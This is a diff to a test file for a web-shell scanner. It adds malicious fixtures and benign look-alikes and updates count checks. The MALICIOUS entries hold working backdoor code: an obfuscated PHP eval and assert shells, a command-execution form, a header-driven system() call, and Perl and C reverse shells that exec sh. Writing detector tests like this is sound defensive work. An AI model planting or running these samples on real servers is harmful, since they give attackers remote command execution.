@@ -36,6 +36,10 @@ const MALICIOUS: [string, string, string][] = [
   ['a register_globals command form whose command has a default only when the field is empty', '/var/www/html/s.php', `<?php\nif ($cmd == "") { $cmd = 'dir /x'; }\necho '<pre>'; system($cmd); echo '</pre>';\n?>\n<form method="post"><input type="text" name="cmd" value=""><input type="submit"></form>\n`],
   ['a function name made by ~ of high bytes, called with request input', '/var/www/html/t.php', Buffer.from([...Buffer.from('<?php $x=~'), 0xbe, 0xac, 0xac, 0xba, 0xad, 0xab, ...Buffer.from(";$x($_POST['k']); ?>")]).toString('latin1')],
   ['a variable called with a name and an argument the file\'s own hex character decoder makes of literals', '/var/www/html/u.php', `<?php\nfunction dh($s, $k) {\n  $t = '';\n  for ($i = 0; $i < strlen($s); $i += 2) $t .= chr(hexdec(substr($s, $i, 2)) - (int) substr($k, ($i / 2) % strlen($k), 1));\n  return $t;\n}\n(@$_ = dh('${Buffer.from(Buffer.from('assert').map((c, i) => c + Number('31'[i % 2]))).toString('hex')}', '13')) . @$_(dh('${Buffer.from(Buffer.from('print 1;').map((c, i) => c + Number('24'[i % 2]))).toString('hex')}', '42'));\n`],
+  ['a PHP payload in base64 with a short version piece joined before it (S35A-12)', '/var/www/html/v.php', `<?php\n$p = "v2" . "${b64('<?php @eval($_POST["k"]); ?>' + ' '.repeat(220))}";\neval('?>' . base64_decode(substr($p, 2)));\n`],
+  ['a Perl connect-back through IO::Socket::INET and a three-argument open (S35A-18)', '/var/www/cgi-bin/x.pl', `#!/usr/bin/perl\nuse IO::Socket::INET;\n$s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Proto => 'tcp');\nopen(STDIN, '<&', $s); open(STDOUT, '>&', $s); open(STDERR, '>&', $s);\nexec('/bin/sh -i');\n`],
+  ['a C connect-back with a dup2 loop and execlp of sh (S35A-19)', '/var/www/html/y.c', `#include <sys/socket.h>\nint main() { int s = socket(2, 1, 0); struct sockaddr_in a; connect(s, (void *)&a, sizeof a); for (int i = 0; i < 3; i++) dup2(s, i); execlp("sh", "sh", NULL); }\n`],
+  ['the whole $_SERVER read value by value into a command (S35A)', '/var/www/html/w.php', `<?php\nforeach ($_SERVER as $k => $v) if ($k === 'HTTP_X_RUN') system($v);\n`],
   ['a directory browser finding drives by letter and listing the folder the request names', '/var/www/html/r.php', `<?php\nfunction drives() { foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo "<a href='?d=$l:'>$l:</a> "; }\ndrives();\n$d = isset($_GET['d']) ? $_GET['d'] : getcwd();\n$h = opendir($d);\nwhile (($f = readdir($h)) !== false) echo htmlspecialchars($f), '<br>';\n`],
 ];
 
@@ -54,6 +58,15 @@ const LOOKALIKES: [string, string, string][] = [
   ['a command form whose command is set from a fixed list in a loop', '/var/www/html/jobs.php', `<?php\nforeach (array('uptime', 'df -h') as $cmd) { echo '<pre>'; system($cmd); echo '</pre>'; }\n?>\n<form method="post"><select name="cmd"><option>uptime</option></select></form>\n`],
   ['a bit mask made by ~ beside a request parameter', '/var/www/html/mask.php', `<?php\n$m = ~0x0f;\n$f = 'intval';\necho $f($_GET['n']) & $m;\n`],
   ['a hex decoder of the file\'s own making a label, printed; a formatter called by variable', '/var/www/html/hexlabel.php', `<?php\nfunction unhex($s) { $t = ''; for ($i = 0; $i < strlen($s); $i += 2) $t .= chr(hexdec(substr($s, $i, 2))); return $t; }\n$label = unhex('48656c6c6f');\n$fmt = 'strtoupper';\necho $fmt($label);\n`],
+  ['a job queue handing a written file to a script of its own as an argument (S35A-1)', '/var/www/html/jobq.php', `<?php\nfunction sh($c) { exec($c . ' > /dev/null 2>&1 &'); }\n$job = tempnam('/tmp', 'job');\nfile_put_contents($job, json_encode($_POST));\nsh('php ' . __DIR__ . '/worker.php ' . escapeshellarg($job));\nsh("php worker.php $job");\n`],
+  ['a linter checking a posted snippet with php -l (S35A-3)', '/var/www/html/lint.php', `<?php\nfunction sh($c) { return shell_exec($c); }\n$f = tempnam('/tmp', 'lint');\nfile_put_contents($f, $_POST['code']);\necho sh('php -l ' . $f);\n`],
+  ['a thumbnailer writing the upload and converting it to a relative path (S35A-2)', '/var/www/html/thumb.php', `<?php\nfunction sh($c) { exec($c); }\n$in = tempnam('/tmp', 'up');\nfile_put_contents($in, file_get_contents($_FILES['f']['tmp_name']));\nsh('convert ' . $in . ' -resize 64x64 ./thumbs/' . md5($in) . '.png');\n`],
+  ['yaml_parse_file with defaults naming a system channel after the call (S35A-4)', '/var/www/html/cfg.php', `<?php\n$c = yaml_parse_file(__DIR__ . '/app.yml') + array('log' => array('channel' => 'system'));\n`],
+  ['a session handler set, with a log line after it naming system (S35A-5)', '/var/www/html/sess2.php', `<?php\nif (!session_set_save_handler($h, true)) { Log::channel('system')->error('no handler'); }\n`],
+  ['perlipc\'s forking server giving each client its standard input (S35A-7)', '/var/www/cgi-bin/srv.pl', `#!/usr/bin/perl\nuse Socket;\nsocket(Server, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nbind(Server, sockaddr_in(7070, INADDR_ANY)); listen(Server, 5);\nwhile (accept(Client, Server)) { if (!fork) { open(STDIN, "<&Client"); open(STDOUT, ">&Client"); exec './handler.pl'; } }\n`],
+  ['a small server running a handler through sh -c for each connection (S35A-8)', '/var/www/html/srv.c', `#include <sys/socket.h>\nint main() { int l = socket(AF_INET, SOCK_STREAM, 0); for (;;) { int c = accept(l, 0, 0); if (!fork()) { dup2(c, 0); dup2(c, 1); execl("/bin/sh", "sh", "-c", "./handler", (char *)0); } } }\n`],
+  ['a cron script running a command from $_SERVER\'s DOCUMENT_ROOT through an alias (S35A-10)', '/var/www/html/cron.php', `<?php\n$server = $_SERVER;\nexec('php ' . $server['DOCUMENT_ROOT'] . '/cron/run.php &');\n`],
+  ['a backup plugin\'s destination picker listing drives for an administrator (S35A-6)', '/var/www/html/pick.php', `<?php\nif (!current_user_can('manage_options')) wp_die();\nforeach (range('c', 'z') as $l) if (is_dir($l . ':')) echo $l;\n$base = isset($_GET['browse']) ? realpath($_GET['browse']) : 'C:';\nforeach (glob($base . '/*', GLOB_ONLYDIR) as $d) echo esc_html($d);\n`],
   ['a string with an escaped dollar sign and a str_replace, printed', '/var/www/html/price.php', `<?php\n$t = "Price: \\$AMOUNT";\n$t = str_replace('AMOUNT', number_format((float) $_GET['p'], 2), $t);\necho htmlspecialchars($t);\n`],
 ];
 
@@ -64,7 +77,7 @@ describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 20));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 24));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -72,5 +85,5 @@ describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 15));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 24));
 });
